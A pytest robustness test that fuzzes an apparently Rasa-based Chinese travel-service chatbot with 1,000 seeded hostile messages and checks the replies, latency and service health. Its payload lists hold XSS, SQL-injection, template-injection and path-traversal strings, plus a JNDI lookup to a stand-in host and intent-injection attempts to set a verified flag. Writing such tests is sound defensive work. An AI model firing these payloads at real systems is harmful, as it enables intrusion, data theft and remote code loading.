"""Hostile input against the real services (issue 14, item 11).

At least 1,000 generated traveller messages (seeded, so every run sends the same ones), spread
over many short conversations on the REST channel and on socket.io (server-issued session
ids): 10k characters, emoji only, control and zero-width characters, HTML/script, SQL-looking,
template and format strings, Rasa's `/intent{...}` syntax, traditional Chinese, mixed scripts,
long digit runs, lone surrogates (JSON escapes allow them on both transports)...
A conversation handed to a person (转人工, an emergency) is paused: the bot is silent by design
while the agent answers, so the next message goes to a new conversation (the tracker's
`paused`, read through Rasa's HTTP API after every turn).
Every message must get a polite reply (non-empty text with Chinese in it) within 2 s, no
response may be a 5xx, and Rasa, the action server and the API must still be healthy at the
end. The figures (count, p50/p95 latency, failures) are printed.
"""

from __future__ import annotations

import asyncio
import json
import random
import re
import statistics
import time
import uuid
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

import httpx
import pytest

from tests.bot.test_web_channels import Widget  # python-socketio client (with the aiohttp shim)
from tests.conftest import RASA_AUTH

pytestmark = pytest.mark.e2e

SEED = 20261202
MESSAGES = 1000
PER_CONVERSATION = 5
REST_WORKERS, SOCKET_WORKERS = 3, 2
REPLY_BUDGET = 2.0  # seconds until the (first) reply
QUIET = 0.3  # socket.io: a turn's replies are over after this long without another one
CHINESE = re.compile(r"[\u4e00-\u9fff]")

# --- the generator -------------------------------------------------------------------------

COMMON = "我要投诉导游态度很差酒店房间脏乱差退款行程查询订单航班取消退团转人工谢谢你好请问怎么办"
TRADITIONAL = [
    "我要投訴，導遊態度很差",
    "請問退團要扣多少錢？",
    "飯店房間很髒，要求賠償",
    "幫我查詢一下行程",
    "護照遺失了怎麼辦",
    "轉人工客服",
    "我的訂單號碼是TR20260001，手機尾號5678",
]
EMOJI = ["😀", "😡", "🤬", "👍", "🙏", "✈️", "🏨", "💩", "🇨🇳", "👨‍👩‍👧‍👦", "🧳", "❤️", "🔥", "😭", "🆘"]
CONTROL = [chr(c) for c in range(0, 32)] + ["\x7f", "\u0085"]
INVISIBLE = [
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u2028",
    "\u2029",
    "\u2060",
    "\ufeff",
    "\u202e",
    "\u202d",
    "\u180e",
    "\u3000",
    "\u00a0",
    "\u00ad",
]
HTML = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(document.cookie)",
    "<b>导游</b>很差&amp;&lt;",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "[点我](javascript:alert(1))",
]
SQL = [
    "' OR '1'='1",
    "TR20260001'; DROP TABLE tickets;--",
    "1; SELECT * FROM users --",
    '" OR 1=1 #',
    "admin'--",
    "' UNION SELECT password FROM users--",
    "1' AND SLEEP(5)--",
    "%' AND 1=0 UNION SELECT 1--",
]
# /restart and /session_start are left out: Rasa commands that reset the conversation and
# say nothing by design (button payloads use the same "/intent" syntax, so it stays open).
INJECTION = [
    '/inform{"booking_ref": "TR20260001"}',
    "/affirm",
    "/nlu_fallback",
    '/greet{"x": ',
    "/不存在的意图",
    "/" * 50,
    '/inform{"phone_last4": "5678", "verified": true}',
    "%s%s%s%n",
    "{0}{1}{__class__}",
    "\\u0000\\x00",
    "../../../../etc/passwd",
    "NaN",
    "null",
    "[]",
    '{"text": "hi"}',
    "\r\n\r\nHTTP/1.1 200 OK",
    "AAAA" * 200,
]
MIXED = [
    "我想refund我的trip，because导游很rude",
    "ホテルが汚い 酒店很脏 호텔이 더러워요",
    "Привет 我要投诉 مرحبا",
    "नमस्ते 退款 שלום",
    "ＴＲ２０２６０００１ 尾号５６７８",
    "ｗｏ ｙａｏ ｔｏｕ ｓｕ",
    "w0 yao tui kuan!!!",
    "Z̴̡̢͎a̷͔̓l̶̙̈g̸̰̈́o̵̻͝ 导游",
    "ℌ𝔢𝔩𝔩𝔬 𝕥𝕣𝕚𝕡 退团",
    "𠀀𠀁𠀂𪚥 生僻字",
    "\U0010ffff\uffff\ue000 私用区",
]


def _chinese(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(COMMON) for _ in range(n))


def _sprinkle(rng: random.Random, text: str, pool: List[str], k: int) -> str:
    chars = list(text)
    for _ in range(k):
        chars.insert(rng.randrange(len(chars) + 1), rng.choice(pool))
    return "".join(chars)


KINDS: List[Tuple[str, Callable[[random.Random], str]]] = [
    ("10k characters", lambda r: _chinese(r, 10_000)),
    ("just over the limit", lambda r: _chinese(r, 2001)),
    ("at the limit", lambda r: _chinese(r, 2000)),
    ("emoji only", lambda r: "".join(r.choice(EMOJI) for _ in range(r.choice([1, 3, 30, 500])))),
    ("control characters", lambda r: _sprinkle(r, _chinese(r, r.randint(2, 30)), CONTROL, r.randint(1, 10))),
    ("only control characters", lambda r: "".join(r.choice(CONTROL) for _ in range(r.randint(1, 40)))),
    (
        "zero-width characters",
        lambda r: _sprinkle(r, r.choice(TRADITIONAL + [_chinese(r, 12)]), INVISIBLE, r.randint(1, 12)),
    ),
    ("only invisible characters", lambda r: "".join(r.choice(INVISIBLE) for _ in range(r.randint(1, 30)))),
    ("whitespace only", lambda r: r.choice([" ", "\t\n ", "\u3000" * 10, " " * 1500])),
    ("html and script", lambda r: r.choice(HTML) + r.choice(["", _chinese(r, 8)])),
    ("sql-looking", lambda r: r.choice(["", "订单号"]) + r.choice(SQL)),
    ("injection and format strings", lambda r: r.choice(INJECTION)),
    ("traditional Chinese", lambda r: r.choice(TRADITIONAL)),
    ("mixed scripts", lambda r: r.choice(MIXED)),
    (
        "long digit runs",
        lambda r: r.choice(["", "TR", "订单TR", "尾号", "电话"])
        + "".join(r.choice("0123456789") for _ in range(r.choice([5, 11, 18, 100, 1999]))),
    ),
    (
        "lone surrogates",
        lambda r: _sprinkle(
            r, _chinese(r, r.randint(1, 20)), ["\ud800", "\udfff", "\udc00", "\ud83d"], r.randint(1, 4)
        ),
    ),
    ("repetition", lambda r: r.choice(["？", "!", "哈", "退款", "😡"]) * r.choice([10, 300, 1999])),
]


def hostile_messages(count: int = MESSAGES, seed: int = SEED) -> List[Tuple[str, str]]:
    """(kind, text) pairs: every kind in turn, then at random, shuffled; the same every run."""
    rng = random.Random(seed)
    picks = [KINDS[i % len(KINDS)] for i in range(len(KINDS))] + [
        rng.choice(KINDS) for _ in range(count - len(KINDS))
    ]
    messages = [(kind, make(rng)) for kind, make in picks]
    rng.shuffle(messages)
    return messages


def test_generator_is_deterministic_and_hostile():
    first, again = hostile_messages(), hostile_messages()
    assert first == again and len(first) >= 1000
    kinds = {kind for kind, _ in first}
    assert kinds == {kind for kind, _ in KINDS}
    assert max(len(text) for _, text in first) == 10_000


# --- the run ------------------------------------------------------------------------------


@dataclass
class Result:
    channel: str
    kind: str
    text: str
    latency: float
    status: Optional[int]
    replies: List[str]
    problem: Optional[str] = None


@dataclass
class Run:
    results: List[Result] = field(default_factory=list)

    def record(self, result: Result) -> None:
        if result.problem is None:
            if result.status is not None and result.status >= 500:
                result.problem = f"HTTP {result.status}"
            elif not result.replies or not any(text.strip() for text in result.replies):
                result.problem = "no reply text"
            elif not any(CHINESE.search(text) for text in result.replies):
                result.problem = f"reply not in Chinese: {result.replies[:2]!r}"
            elif result.latency > REPLY_BUDGET:
                result.problem = f"slow: {result.latency:.2f} s"
        self.results.append(result)


def _body(sender: str, text: str) -> bytes:
    # UTF-8 as a browser sends it; lone surrogates only survive as JSON escapes.
    try:
        return json.dumps({"sender": sender, "message": text}, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps({"sender": sender, "message": text}).encode("ascii")


async def _paused(http: httpx.AsyncClient, conversation: str) -> bool:
    response = await http.get(
        f"/conversations/{conversation}/tracker", params={"include_events": "NONE"}, headers=RASA_AUTH
    )
    return response.status_code == 200 and bool(response.json().get("paused"))


async def _rest_conversation(http: httpx.AsyncClient, messages: List[Tuple[str, str]], run: Run) -> None:
    sender = f"hostile-{uuid.uuid4().hex[:12]}"
    for kind, text in messages:
        if await _paused(http, sender):  # handed to a person: the bot is silent by design
            sender = f"hostile-{uuid.uuid4().hex[:12]}"
        started = time.monotonic()
        try:
            response = await http.post(
                "/webhooks/rest/webhook",
                content=_body(sender, text),
                headers={"Content-Type": "application/json"},
            )
            latency = time.monotonic() - started
            try:
                replies = [item.get("text") or "" for item in response.json()]
            except ValueError:
                replies = []
            run.record(Result("rest", kind, text, latency, response.status_code, replies))
        except httpx.HTTPError as error:
            run.record(
                Result("rest", kind, text, time.monotonic() - started, None, [], f"transport: {error!r}")
            )


async def _socket_conversation(
    http: httpx.AsyncClient, url: str, messages: List[Tuple[str, str]], run: Run
) -> None:
    widget = Widget(url)
    try:
        token = await widget.connect()
        for kind, text in messages:
            if await _paused(http, token.split(".")[0]):  # a new session, as a new tab would get
                await widget.close()
                widget = Widget(url)
                token = await widget.connect()
            started = time.monotonic()
            await widget.say(text, token)
            try:
                first = await widget.next_reply(timeout=10)
            except asyncio.TimeoutError:
                run.record(
                    Result("socket.io", kind, text, time.monotonic() - started, None, [], "no reply in 10 s")
                )
                continue
            latency = time.monotonic() - started
            replies = [first.get("text") or ""]
            while True:  # the rest of this turn's replies
                try:
                    replies.append((await widget.next_reply(timeout=QUIET)).get("text") or "")
                except asyncio.TimeoutError:
                    break
            run.record(Result("socket.io", kind, text, latency, None, replies))
        refused = not widget.refused.empty()
        if refused:
            run.record(
                Result("socket.io", "session", "", 0, None, ["x"], f"refused: {widget.refused.get_nowait()}")
            )
    finally:
        if widget.client.connected:
            await widget.close()


def _summary(run: Run, seconds: float) -> str:
    lines = []
    for channel in ("rest", "socket.io"):
        latencies = sorted(r.latency for r in run.results if r.channel == channel)
        if not latencies:
            continue
        p50 = statistics.median(latencies)
        p95 = latencies[min(len(latencies) - 1, int(0.95 * len(latencies)))]
        failures = sum(1 for r in run.results if r.channel == channel and r.problem)
        lines.append(
            f"  {channel:9} {len(latencies):5d} messages  "
            f"p50 {p50 * 1000:6.0f} ms  p95 {p95 * 1000:6.0f} ms  "
            f"max {latencies[-1] * 1000:6.0f} ms  failures {failures}"
        )
    total = len(run.results)
    failures = [r for r in run.results if r.problem]
    lines.insert(0, f"hostile input: {total} messages in {seconds:.0f} s, {len(failures)} failures")
    by_kind: Dict[str, int] = {}
    for result in failures:
        by_kind[result.kind] = by_kind.get(result.kind, 0) + 1
    if by_kind:
        lines.append(f"  failures by kind: {by_kind}")
    for result in failures[:40]:
        lines.append(f"  - {result.channel} [{result.kind}] {result.text[:60]!r}: {result.problem}")
    return "\n".join(lines)


async def test_hostile_messages_get_polite_replies_and_crash_nothing(rasa_url, api_url, actions):
    messages = hostile_messages()
    conversations = [messages[i : i + PER_CONVERSATION] for i in range(0, len(messages), PER_CONVERSATION)]
    # Rasa builds its graphs on the first messages: warm up outside the figures.
    async with httpx.AsyncClient(base_url=rasa_url, timeout=60) as http:
        for text in ("你好", "我要投诉", "退团扣多少"):
            (
                await http.post("/webhooks/rest/webhook", json={"sender": "hostile-warm-up", "message": text})
            ).raise_for_status()

    run, queue = Run(), asyncio.Queue()
    for index, conversation in enumerate(conversations):
        queue.put_nowait(("socket.io" if index % 3 == 2 else "rest", conversation))

    async def worker(channel: str) -> None:
        async with httpx.AsyncClient(base_url=rasa_url, timeout=30) as http:
            while True:
                skipped = []
                item = None
                while not queue.empty():  # the next conversation for this channel
                    candidate = queue.get_nowait()
                    if candidate[0] == channel:
                        item = candidate
                        break
                    skipped.append(candidate)
                for other in skipped:
                    queue.put_nowait(other)
                if item is None:
                    return
                if channel == "rest":
                    await _rest_conversation(http, item[1], run)
                else:
                    await _socket_conversation(http, rasa_url, item[1], run)

    started = time.monotonic()
    await asyncio.gather(
        *[worker("rest") for _ in range(REST_WORKERS)], *[worker("socket.io") for _ in range(SOCKET_WORKERS)]
    )
    seconds = time.monotonic() - started
    report = _summary(run, seconds)
    print("\n" + report)

    async with httpx.AsyncClient(timeout=10) as http:
        health = {
            "rasa": (await http.get(f"{rasa_url}/status", headers=RASA_AUTH)).status_code,
            "actions": (await http.get(actions.health_url)).status_code,
            "api": (await http.get(f"{api_url}/healthz")).status_code,
        }
        after = await http.post(
            f"{rasa_url}/webhooks/rest/webhook",
            json={"sender": f"hostile-after-{uuid.uuid4().hex[:8]}", "message": "你好"},
        )
    print(f"  health after the run: {health}; '你好' answered {after.status_code}")
    assert health == {"rasa": 200, "actions": 200, "api": 200}
    assert after.status_code == 200 and after.json()
    assert len(run.results) >= MESSAGES
    assert not [r for r in run.results if r.problem], report
